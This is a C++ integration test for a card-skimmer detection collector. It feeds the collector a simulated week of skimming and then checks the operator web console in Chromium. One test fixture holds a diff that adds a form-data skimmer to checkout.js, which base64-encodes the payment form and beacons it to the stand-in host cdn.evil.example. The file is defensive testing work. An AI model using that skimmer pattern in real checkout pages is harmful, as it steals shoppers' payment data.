// The web console of a real collector in a real Chromium, with the certificates of real operators.
#include <unistd.h>

#include <atomic>
#include <cstdlib>
#include <string>
#include <thread>
#include <vector>

#include "absl/cleanup/cleanup.h"
#include "absl/strings/str_cat.h"
#include "absl/time/clock.h"
#include "collector/store/timestamp.h"
#include "gtest/gtest.h"
#include "tests/collector/support/agent_client.h"
#include "tests/collector/support/collector_process.h"
#include "tests/collector/support/findings.h"
#include "tests/collector/support/test_authority.h"
#include "tests/support/child_process.h"
#include "tests/support/temp_folder.h"

namespace skimwatch::integration {
namespace {

using testing::AgentClient;
using testing::CardFinding;
using testing::DestinationFinding;
using testing::ScriptFinding;

const absl::Time kNow = absl::Now();

v1::Finding At(v1::Finding finding, absl::Time seen) {
  *finding.mutable_first_seen() = store::ToTimestamp(seen);
  *finding.mutable_last_seen() = store::ToTimestamp(seen);
  return finding;
}

// A skimmer's week: a script is altered, then cards leave, more of them every night.
std::vector<v1::Finding> Story() {
  std::vector<v1::Finding> findings;
  const auto add = [&](v1::Finding finding, absl::Duration ago) {
    finding = At(std::move(finding), kNow - ago);
    finding.set_sequence(findings.size() + 1);
    if (finding.has_destination_change()) {
      *finding.mutable_destination_change()->mutable_first_seen() = finding.first_seen();
      *finding.mutable_destination_change()->mutable_last_seen() = finding.last_seen();
    }
    findings.push_back(std::move(finding));
  };
  add(ScriptFinding(1, v1::ScriptChange::CHANGE_PROPOSED, 1, "js/checkout.js"), absl::Hours(300));
  add(ScriptFinding(1, v1::ScriptChange::CHANGE_PROPOSED, 2, "js/chat.js"), absl::Hours(300));
  add(ScriptFinding(1, v1::ScriptChange::CHANGE_PROPOSED, 3, "js/consent.js"), absl::Hours(290));
  v1::Finding altered = ScriptFinding(1, v1::ScriptChange::CHANGE_CHANGED, 4, "js/checkout.js");
  v1::ScriptChange& change = *altered.mutable_script_change();
  change.mutable_previous()->set_sha256(testing::HashOf(1));
  change.mutable_previous()->set_size_bytes(1001);
  change.set_diff(
      "--- js/checkout.js\n+++ js/checkout.js\n@@ -41,7 +41,12 @@\n"
      " form.addEventListener(\"submit\", async event => {\n"
      "   event.preventDefault();\n"
      "-  await pay(new FormData(form));\n"
      "+  const data = new FormData(form);\n"
      "+  navigator.sendBeacon(\"https://cdn.evil.example/p\",\n"
      "+    btoa(JSON.stringify([...data])));\n"
      "+  await pay(data);\n"
      "   location.assign(\"/thanks\");\n"
      " });\n");
  v1::ScriptFact& fact = *change.add_gained_facts();
  fact.set_name("external_host");
  fact.set_excerpt("cdn.evil.example");
  change.add_reasons("sends form data to a host that is new");
  add(altered, absl::Hours(50));
  uint64_t card = 1;
  for (int hours = 44; hours >= 1; --hours) {
    const int count = (hours % 24 > 6 && hours % 24 < 16) ? 1 + hours % 4 : hours % 5 == 0 ? 1 : 0;
    for (int i = 0; i < count; ++i) {
      add(CardFinding(1, {.card = card++,
                          .path = "/p",
                          .destination = "cdn.evil.example:443",
                          .count = static_cast<uint64_t>(1 + i % 2)}),
          absl::Hours(hours));
    }
  }
  add(CardFinding(1, {.card = 900,
                      .method = "",
                      .path = "/var/log/shop/debug.log",
                      .destination = "web-1",
                      .count = 12}),
      absl::Hours(5));
  add(DestinationFinding(1, v1::DestinationChange::CHANGE_NEW, "evil.example", "/usr/bin/node",
                         /*checkout=*/true),
      absl::Hours(44));
  return findings;
}

void SendHeartbeat(AgentClient& client, uint64_t seen) {
  v1::StreamRequest request;
  v1::Heartbeat& heartbeat = *request.mutable_heartbeat();
  *heartbeat.mutable_sent_at() = store::ToTimestamp(absl::Now());
  v1::Coverage& bytes = *heartbeat.mutable_coverage();
  bytes.set_seen_bytes(seen);
  bytes.set_scanned_bytes(seen - seen / 50);
  bytes.set_shed_bytes(seen / 100);
  bytes.set_undecodable_bytes(seen / 50 - seen / 100);
  heartbeat.mutable_spool()->set_bytes(1 << 20);
  heartbeat.mutable_spool()->set_bytes_max(1 << 30);
  heartbeat.set_sample_ratio(1);
  v1::PageLook& look = *heartbeat.add_pages();
  look.set_name("checkout");
  look.set_site("shop");
  look.set_outcome(v1::PageLook::OUTCOME_OK);
  look.set_interval_seconds(86'400);
  *look.mutable_last_look() = store::ToTimestamp(kNow - absl::Hours(7));
  *look.mutable_last_whole_look() = look.last_look();
  *look.mutable_next_due() = store::ToTimestamp(kNow + absl::Hours(17));
  ASSERT_TRUE(client.Send(request));
}

TEST(WebConsole, IsUsableByOperatorsAndByNobodyElse) {
  if (access("/usr/bin/chromium", X_OK) != 0) GTEST_SKIP() << "needs chromium";
  const testing::TempFolder folder;
  const testing::TestAuthority authority(folder.path());
  config::v1::CollectorConfig config = testing::TestConfig(folder.path());
  *config.mutable_tls() = authority.Issue("collector");
  config.clear_roles();
  for (const char* const role : {"approver", "viewer"}) {
    config::v1::RoleRule& rule = *config.add_roles();
    rule.set_identity(role);
    rule.set_role(role);
    const config::v1::Tls files = authority.Issue(role);
    ASSERT_EQ(
        link(files.certificate_file().c_str(), folder.File(absl::StrCat(role, ".pem")).c_str()), 0);
    ASSERT_EQ(link(files.key_file().c_str(), folder.File(absl::StrCat(role, ".key")).c_str()), 0);
  }
  config.clear_agents();
  config.add_agents("web-*");
  config.mutable_console()->set_listen("127.0.0.1:0");
  testing::CollectorProcess collector(config, folder.path());
  collector.Start();
  ASSERT_NE(collector.console_port(), 0);

  AgentClient web1(testing::ConnectTo(collector.port(), authority.Issue("web-1")),
                   /*deadline=*/absl::Seconds(280));
  ASSERT_TRUE(web1.SendHello(1));
  ASSERT_TRUE(web1.ReadWelcome().has_value());
  const std::vector<v1::Finding> story = Story();
  ASSERT_TRUE(web1.SendBatch(story));
  ASSERT_TRUE(web1.ReadAckOf(story.size()));
  // It stays, as its sister does not.
  std::atomic<bool> ending = false;
  std::thread heart([&] {
    for (uint64_t beat = 0; !ending; ++beat) {
      if (beat % 20 == 0) SendHeartbeat(web1, (uint64_t{52} << 30) + beat);
      absl::SleepFor(absl::Milliseconds(250));
    }
  });
  const absl::Cleanup stop = [&] {
    ending = true;
    heart.join();
  };
  {
    // It has gone since.
    AgentClient web2(testing::ConnectTo(collector.port(), authority.Issue("web-2")));
    ASSERT_TRUE(web2.SendHello(2));
    ASSERT_TRUE(web2.ReadWelcome().has_value());
    SendHeartbeat(web2, uint64_t{17} << 30);
    ASSERT_TRUE(web2.SendBatch(
        {At(CardFinding(1, {.card = 1, .path = "/p", .destination = "cdn.evil.example:443"}),
            kNow - absl::Hours(2))}));
    ASSERT_TRUE(web2.ReadAckOf(1));
  }

  const char* const pictures = std::getenv("SKIMWATCH_SCREENSHOTS");
  std::vector<std::string> command = {
      "/usr/bin/env", "node", std::string(SKIMWATCH_SOURCE_DIR) + "/tests/console/console.mjs",
      absl::StrCat("https://127.0.0.1:", collector.console_port()), folder.path(),
      // The scripts and cards of the story in order: the altered script, then the cards.
      "2"};
  if (pictures != nullptr) command.push_back(pictures);
  testing::ChildProcess browser(
      {.command = command,
       .environment = {absl::StrCat("SKIMWATCH_NODE_MODULES=", SKIMWATCH_NODE_MODULES)},
       .patience = absl::Seconds(240)});
  const testing::Result result = browser.Wait();
  EXPECT_EQ(result.code, 0) << result.out << result.err;
  EXPECT_NE(collector.Get("/metrics").find("skimwatch_console_requests_total{"), std::string::npos);
}

}  // namespace
}  // namespace skimwatch::integration
